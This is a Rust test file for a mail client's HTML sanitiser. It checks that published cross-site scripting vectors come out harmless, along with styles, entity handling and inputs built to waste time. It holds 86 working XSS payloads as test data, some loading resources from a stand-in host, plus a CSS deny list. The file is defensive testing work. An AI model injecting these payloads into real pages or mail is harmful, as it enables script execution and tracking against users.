//! HTML that tries to act, reach out or cost time, and what is shown of it.

#![expect(clippy::string_slice, reason = "a test cuts texts that it knows: a panic is the report")]

use std::time::{Duration, Instant};

use mail::html::{OUTPUT_BYTES, Safe, safe, to_text};
use proptest::prelude::*;

const ELEMENTS: &str = " a abbr acronym address article aside b bdi bdo big blockquote br center cite code dd del dfn div dl dt em \
    figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike \
    strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr ";

const ATTRIBUTES: &str = " align alt bgcolor border cellpadding cellspacing color colspan data-src datetime dir face height href lang \
    nowrap rel rowspan size span src start style target title type valign value width ";

/// Reads the shown HTML as the strictest of readers does and fails on anything that could act.
fn assert_harmless(shown: &str, source: &str) {
    let mut rest = shown;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let (is_end, tag) = match rest.strip_prefix('/') {
            Some(tag) => (true, tag),
            None => (false, rest),
        };
        let len = tag.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(tag.len());
        assert!(ELEMENTS.contains(&format!(" {} ", &tag[..len])), "an element in {shown:?} of {source:?}");
        rest = &tag[len..];
        while let Some(attribute) = rest.strip_prefix(' ') {
            let (name, after) =
                attribute.split_once("=\"").unwrap_or_else(|| panic!("{shown:?} of {source:?}"));
            let (value, after) = after.split_once('"').unwrap_or_else(|| panic!("{shown:?} of {source:?}"));
            assert!(
                !is_end && ATTRIBUTES.contains(&format!(" {name} ")),
                "{name} in {shown:?} of {source:?}"
            );
            assert_value(name, &value.to_ascii_lowercase(), shown);
            rest = after;
        }
        rest = rest.strip_prefix('>').unwrap_or_else(|| panic!("{shown:?} of {source:?}"));
    }
}

fn assert_value(name: &str, value: &str, shown: &str) {
    let begins = |prefixes: &[&str]| prefixes.iter().any(|prefix| value.starts_with(prefix));
    match name {
        "href" => assert!(begins(&["http://", "https://", "mailto:", "tel:", "http:", "https:"]), "{shown}"),
        "src" => assert!(begins(&["data:image/png;", "data:image/gif;", "/part/"]), "{shown}"),
        "data-src" => assert!(begins(&["http://", "https://"]), "{shown}"),
        "style" => {
            let bad = [
                "url",
                "expression",
                "position",
                "javascript",
                "\\",
                "@",
                "behavior",
                "-moz-binding",
                "import",
            ];
            assert!(!bad.iter().any(|bad| value.contains(bad)), "{shown}");
        }
        _ => (),
    }
}

fn shown_text(html: &str) -> String {
    let cid = |id: &str| (id == "known@x").then(|| "/part/2?a=1&b=2".to_owned());
    safe(html, &Safe { images: false, cid: &cid })
}

/// Without what each reading adds, or does not know: the attributes of links in some order, the addresses of pictures that are not shown.
fn settled(shown: &str) -> String {
    let links = shown.replace(" rel=\"noopener noreferrer nofollow\"", "").replace(" target=\"_blank\"", "");
    let mut pieces = links.split(" data-src=\"");
    let first = pieces.next().unwrap_or_default().to_owned();
    pieces.fold(first, |text, piece| text + piece.split_once('"').map_or("", |(_, rest)| rest))
}

/// Published ways to run a script in spite of a sanitiser, by mutation too.
const VECTORS: [&str; 86] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src='x'/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=\"javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
    "<img src=x srcset=\"https://evil.example/1.png 2x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<table background=\"https://evil.example/x.png\"><tr><td background=\"//evil.example\">x</table>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><rect/></a></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,AAAA#x\"></use></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src onerror=alert(1)></style></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<img src onerror=alert(1)>\">",
    "<iframe><a title=\"</iframe><img src onerror=alert(1)>\">x</a>",
    "<object data=\"javascript:alert(1)\"><param name=x></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=\"x\" archive=\"https://evil.example/x.jar\"></applet>",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onchange=alert(1)><option>x</select>",
    "<select><style></select><img src onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea><img src onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background-image:url(https://evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"color:red;position:fixed;top:0;left:0\">x</div>",
    "<div style=\"color:\\75rl(https://evil.example)\">x</div>",
    "<div style=\"font-family:'a;b';behavior:url(x)\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
    "<div style=\"color:red;@import 'x'\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"x-shown:javascript:alert(1)\">x</a><img src=\"x-shown:javascript:alert(1)\"><img src=\"x-held:javascript:alert(1)\">",
    "<a href=\"//evil.example\">x</a><a href=\"/relative\">y</a><a href=\"?q\">z</a><a href=\"#f\">f</a>",
    "<a href='https://ok.example/\"onmouseover=\"alert(1)'>x</a>",
    "<a href=https://ok.example/ ping=https://evil.example onclick=alert(1) download>x</a>",
    "<a title=\"&quot;><img src=x onerror=alert(1)>\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><?import namespace=\"t\" implementation=\"#x\"><img src=x onerror=alert(1)//",
    "<p id=innerHTML name=body class=x data-x=1 contenteditable accesskey=x tabindex=1 draggable=true>x</p>",
];

#[test]
fn no_vector_acts() {
    for source in VECTORS {
        let once = shown_text(source);
        assert_harmless(&once, source);
        assert_eq!(
            settled(&shown_text(&once)),
            settled(&once),
            "it changes when it is read again: {source:?}"
        );
        for wrapped in [
            format!("<table><tr>{source}"),
            format!("<p title='{source}"),
            format!("<svg>{source}"),
            format!("<b><i>{source}</b>"),
        ] {
            assert_harmless(&shown_text(&wrapped), &wrapped);
        }
    }
}

#[test]
fn mail_looks_like_mail() {
    for (source, expected) in [
        ("<p>Hello <b>world</b>", "<p>Hello <b>world</b></p>"),
        ("a < b & c &lt; d", "a &lt; b &amp; c &lt; d"),
        ("<p>one<p>two<ul><li>x<li>y</ul>", "<p>one</p><p>two</p><ul><li>x</li><li>y</li></ul>"),
        ("<p style='color:rgb(1,2,3);position:fixed;margin:-9px'>x", "<p style=\"color:rgb(1, 2, 3)\">x</p>"),
        (
            "<a href='https://x.example/?a=1&amp;b=2'>x</a>",
            "<a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        ),
        ("<img src='cid:known@x' alt=p>", "<img src=\"/part/2?a=1&amp;b=2\" alt=\"p\">"),
        ("<img src='cid:known%40x'><img src=cid:other>", "<img src=\"/part/2?a=1&amp;b=2\"><img>"),
        ("<img src='cid:%6bnow%6E&#64;x'>", "<img src=\"/part/2?a=1&amp;b=2\">"),
        (
            "<img src=\"https://t.example/p.gif?a&amp;b\" width=1>",
            "<img data-src=\"https://t.example/p.gif?a&amp;b\" width=\"1\">",
        ),
        ("<img src=//t.example/p.gif>", "<img data-src=\"https://t.example/p.gif\">"),
        ("<img src='data:image/png;base64,AAAA'>", "<img src=\"data:image/png;base64,AAAA\">"),
        (
            "<table><td>x<td>y<tr><td>z</table>",
            "<table><tbody><tr><td>x</td><td>y</td></tr><tr><td>z</td></tr></tbody></table>",
        ),
        (
            "<table>text<tr><b>x</b></table>",
            "<table><tbody><tr><td>text</td></tr><tr><td><b>x</b></td></tr></tbody></table>",
        ),
        (
            "<html><head><title>t</title><style>p{}</style></head><body bgcolor=red><center>x</center>",
            "<center>x</center>",
        ),
        ("<!--[if mso]><p>no</p><![endif]--><p>yes<!-- c --></p>", "<p>yes</p>"),
        ("<form><label>Name</label> <button>Send</button></form>", "Name Send"),
        ("<b><p>x</b>y</p>", "<b><p>x</p></b>y"),
        ("<tr><td>x</td></tr>", "x"),
        ("x\0y", "xy"),
        // Parsers skip the first line break.
        ("<pre>\n\nx</pre><pre>\ny</pre>", "<pre>\n\nx</pre><pre>y</pre>"),
        ("<p> src=\"x-held:y\"</p>", "<p> src=\"x-held:y\"</p>"),
        (
            "<font color=red face=Arial size=2>x</font>",
            "<font color=\"red\" face=\"Arial\" size=\"2\">x</font>",
        ),
    ] {
        assert_eq!(shown_text(source), expected, "{source}");
    }
    let with_images = Safe { images: true, ..Safe::default() };
    assert_eq!(
        safe("<img src=https://x.example/1.png>", &with_images),
        "<img src=\"https://x.example/1.png\">"
    );
    assert_eq!(safe("<img src=//x.example/1.png>", &with_images), "<img src=\"https://x.example/1.png\">");
    let deep = shown_text(&"<table><tr><td>".repeat(100));
    assert_eq!(shown_text(&deep), deep, "what the parser adds to a table counts too");
}

/// On a stack that is smaller than any that a server has.
fn on_a_small_stack(html: String) -> (String, Duration) {
    let run = move || {
        let start = Instant::now();
        (shown_text(&html), start.elapsed())
    };
    let thread =
        std::thread::Builder::new().stack_size(512 << 10).spawn(run).expect("a thread can be started");
    thread.join().expect("what is shown of it, not a panic")
}

#[test]
fn html_made_to_cost_time_does_not() {
    let many = |piece: &str| piece.repeat((2 << 20) / piece.len());
    let numbered = |f: fn(usize) -> String| (0..100_000).map(f).collect::<String>();
    let rules = (0..256).map(|n| format!(".a.b.c.n{n},.a.b.c.d{{opacity:1}}")).collect::<String>();
    let cases = [
        many("<div>"),
        many("<table>"),
        many("<table><tr><td>"),
        many("<b>"),
        many("<p><b>"),
        numbered(|n| format!("<b title={n}>")),
        numbered(|n| format!("<p><font size={n}>")),
        format!("{}{}", (0..300).map(|n| format!("<b title={n}>")).collect::<String>(), many("<p>x")),
        format!("<table>{}", many("<i></i>")),
        format!("<table>{}", many("x<tr>")),
        format!("<p {}>", many("a=1 ")),
        format!("<p {}>", numbered(|n| format!("a{n} "))),
        many("<a>"),
        many("<a href=https://x.example>x"),
        many("<svg>"),
        many("<select><option>"),
        many("<svg><style><b>"),
        many("</div>"),
        many("<"),
        many("<!--"),
        many("&lt;"),
        many("<p style=\"color:((((((\">"),
        format!("<p style=\"{}\">", many("color:rgb(")),
        format!("<p style=\"{}\">", many("a:b;")),
        many("<li>"),
        many("<ul><li>"),
        many("<h1>"),
        many("<img src=cid:known@x>"),
        many("<b><div></b>"),
        many("<x y=\"\">"),
        // Rules of many classes, for elements that have them all: the same ones, and ones that each are different.
        format!("<style>{rules}</style>{}", many("<br class=\"a b c d e f g h i j k l m n o p\">")),
        format!("<style>{rules}</style>{}", numbered(|n| format!("<b class=\"a b c d n{n}\">"))),
    ];
    for html in cases {
        let start: String = html.chars().take(40).collect();
        let (shown, took) = on_a_small_stack(html);
        println!("{took:?} {} {start}", shown.len());
        assert!(took < Duration::from_secs(20), "{took:?} {start}");
        assert!(shown.len() <= 2 * OUTPUT_BYTES, "{} {start}", shown.len());
    }
}

/// Long texts are split for the serializer where it escapes; the split is invisible.
#[test]
fn references_without_number_are_shown_as_they_are_meant() {
    for (source, meant) in [
        ("&", "&amp;"),
        ("&amp;\u{b0}", "&amp;\u{b0}"),
        ("&#&am ", "&amp;#&amp;am "),
        ("&nbsp;x", "&nbsp;x"),
        ("&ampx&not", "&amp;x\u{ac}"),
        ("a<x>&</x>", "a&amp;"),
        ("\u{a0}\u{c4}", "&nbsp;\u{c4}"),
    ] {
        for count in [1, 3, 500, 5_000] {
            assert_eq!(shown_text(&source.repeat(count)), meant.repeat(count), "{count} of {source:?}");
        }
    }
    let pre = format!("<pre>\n\n{}</pre>", "&lt;\n&amp;".repeat(1_000));
    assert_eq!(shown_text(&pre), pre);
    // A value cannot be broken: one that no sender writes is left out.
    let titled = |count: usize| format!("<p title=\"{}\">x</p>", "&amp;".repeat(count));
    assert_eq!(shown_text(&titled(400)), titled(400));
    assert_eq!(shown_text(&titled(40_000)), "<p>x</p>");
}

/// A value that is kept is written longer than it came: it is kept in what was shown, too.
#[test]
fn references_that_grow_are_kept_twice_or_not_at_all() {
    let options = Safe { images: true, ..Safe::default() };
    let mut kept = 0;
    for piece in [
        "& ", "&am ", "&amp ", "&#38;", "\u{a0}x", "&nbsp", "<x", ">", "&quot;", "&nvlt;", "\u{a9}", "&copy;",
    ] {
        for bytes in [500, 800, 1_000, 1_400, 1_600, 2_000, 3_000, 10_000] {
            let source = format!("<p title='{}'>x</p>", piece.repeat(bytes / piece.len()));
            let once = safe(&source, &options);
            assert_eq!(safe(&once, &options), once, "{piece:?}, {bytes} bytes");
            kept += usize::from(once.contains("title"));
        }
    }
    assert!((40..90).contains(&kept), "{kept}");
}

/// A style is rewritten with a space between any two parts: it grows, and stays all the same, or is removed as a whole.
#[test]
fn styles_that_grow_are_kept_twice_or_not_at_all() {
    for part in ["&#", "&am", "&", "'a'", "\u{a0}", "'", ">", "<"] {
        for count in [1, 20, 63, 64, 65, 127, 128, 129, 130, 400] {
            let source = format!("<p style=\"color:red /**/ {}\">x", part.repeat(count));
            let once = shown_text(&source);
            assert_eq!(shown_text(&once).contains("style"), once.contains("style"), "{count} times {part}");
        }
    }
    assert!(shown_text("<p style=\"font-family:'A B','C'\">x").contains("font-family"));
}

#[test]
fn text_of_html() {
    assert_eq!(
        to_text("<style>p{}</style><p>Gr&uuml;&szlig;e <b>x</b></p><script>y</script>").trim(),
        "Grüße x"
    );
    assert!(to_text(&"<p>x".repeat(1_000_000)).len() < 4 << 20);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    /// Pieces of vectors in any order.
    #[test]
    fn no_mixture_of_vectors_acts(picks in prop::collection::vec((0..VECTORS.len(), 0usize..60, 0usize..60), 1..6)) {
        let pieces = picks.into_iter().map(|(index, from, len)| VECTORS[index].chars().skip(from).take(len).collect::<String>());
        let source = pieces.collect::<String>();
        let once = shown_text(&source);
        assert_harmless(&once, &source);
        prop_assert_eq!(settled(&shown_text(&once)), settled(&once), "{:?}", source);
    }

    #[test]
    fn no_text_panics(source in "(\\PC|<[a-z]{1,6}[ =\"'>]|</[a-z]{1,5}>|&[a-z#0-9]{1,5};?){0,60}") {
        assert_harmless(&shown_text(&source), &source);
    }
}
